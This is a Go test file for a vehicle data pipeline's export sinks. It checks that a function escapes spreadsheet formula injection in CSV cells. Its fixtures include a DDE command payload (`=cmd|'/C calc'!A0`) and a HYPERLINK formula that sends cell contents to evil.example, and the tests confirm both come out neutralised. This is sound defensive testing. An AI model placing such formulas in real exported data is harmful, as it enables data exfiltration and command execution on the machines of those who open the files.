package sinks

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"vehiclebatch/pipeline/record"
)

// original is the text that Harmless was given.
func original(cell string) string {
	if text, quoted := strings.CutPrefix(cell, "'"); quoted && actsInSpreadsheet(text) {
		return text
	}
	return cell
}

func TestHarmless(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`=cmd|'/C calc'!A0`: `'=cmd|'/C calc'!A0`, "+SUM(A1)": "'+SUM(A1)", "-更换机油": "'-更换机油", "@x": "'@x", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"＝1+1": "'＝1+1", "'=1": "''=1", "''=1": "'''=1", "=": "'=", "-": "'-", "--": "'--", "-1-1": "'-1-1", "-5\n=1": "'-5\n=1", "'-5": "''-5",
		"-5": "-5", "+86": "+86", "-0.50": "-0.50", "": "", "'": "'", "a=1": "a=1", "LSV": "LSV", "0012": "0012", "粤B12345": "粤B12345", "'粤": "'粤", " =1": " =1",
	} {
		if got := Harmless(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
		if got := original(want); got != text {
			t.Errorf("%q was %q, not %q", want, text, got)
		}
	}
}

// Whatever the text, no spreadsheet runs it, one apostrophe at most is added, and
// the text comes back. Not a fuzz target: that would build the Parquet library anew.
func TestHarmlessProperty(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.StringOf(rapid.SampledFrom([]rune("'=+-@\t\r\n＝＋－＠0.5x")))).Draw(t, "text")
		cell := Harmless(text)
		if original(cell) != text || cell != text && cell != "'"+text {
			t.Fatalf("%q became %q and came back as %q", text, cell, original(cell))
		}
		if strings.IndexAny(cell, "=@\t\r\n＝＋－＠") == 0 {
			t.Fatalf("%q is run by a spreadsheet", cell)
		}
		if strings.IndexAny(cell, "+-") == 0 && !plainNumber.MatchString(cell) {
			t.Fatalf("%q is run by a spreadsheet", cell)
		}
	})
}

// hostile is what a supplier of vehicles or a vendor may write into any text.
const hostile = `=HYPERLINK("http://evil.example/?"&A1)`

func feedHostile(s Sink) error {
	visit := record.Visit{Seq: 1, Type: record.Other, VendorType: hostile, Content: hostile, Materials: hostile, PaymentType: hostile,
		Amount: record.Some[record.Fen](-500), MileageDeltaKM: record.Some[int64](-7), Problems: []string{hostile}}
	report := record.Report{VIN: hostile, Brand: hostile, Model: hostile, Visits: []record.Visit{visit}}
	car := record.Vehicle{Row: 1, VIN: hostile, Plate: hostile, PlateType: hostile, EngineNo: hostile, ModelID: hostile, CityID: hostile}
	violation := record.Violation{Seq: 1, City: hostile, Address: hostile, Action: hostile, Organ: hostile, Status: record.UnprocessedUnpaid}
	for _, err := range []error{
		s.Vehicle(VehicleRow{VehicleID: "v1", Vehicle: car, Problems: []string{hostile}, Cost: -5,
			Maintenance: record.Found, Valuation: record.Found, Violations: record.Found}),
		s.Report(ReportRow{VehicleID: "v1", VIN: hostile, Vendor: "wapi", Ticket: hostile, Report: report, FetchedAt: noon}),
		s.Valuation(ValuationRow{VehicleID: "v1", VIN: hostile, Vendor: "wapi", Asked: car, Valuation: record.Valuation{ModelName: hostile, City: hostile}, FetchedAt: noon}),
		s.Violation(ViolationRow{VehicleID: "v1", VIN: hostile, Plate: hostile, Vendor: "wapi", Violation: violation, FetchedAt: noon}),
		s.Failure(FailureRow{Row: 1, VehicleID: "v1", VIN: hostile, Plate: hostile, EngineNo: hostile, Dataset: record.DatasetMaintenance, Vendor: hostile,
			Stage: record.StagePoll, Class: record.Rejected, Code: hostile, Message: hostile, Ticket: hostile, Billed: "no", NextStep: hostile}),
	} {
		if err != nil {
			return err
		}
	}
	return nil
}

func TestNoCellOfACSVActsAndVerifyHolds(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	m := write(t, dir, fileFormats(), feedHostile)
	if found, total := compare(t, dir, m, feedHostile); total > 0 {
		t.Errorf("verify finds %v", found)
	}
	seen, numbers := 0, 0
	for _, table := range tableSpecs() {
		rows, err := csv.NewReader(bytes.NewReader(read(t, dir, fileName(table.name, CSV)))).ReadAll()
		must(t, err)
		for _, row := range rows[1:] {
			for i, got := range row {
				switch {
				case got == "'"+hostile:
					seen++
				case strings.HasPrefix(got, "-") && plainNumber.MatchString(got):
					numbers++
				case strings.IndexAny(got, formulaMarks) == 0:
					t.Errorf("%s, column %s: %q", table.name, table.columns[i].name, got)
				}
			}
		}
	}
	if seen < 25 || numbers < 2 {
		t.Errorf("only %d texts and %d numbers were looked at", seen, numbers)
	}
}
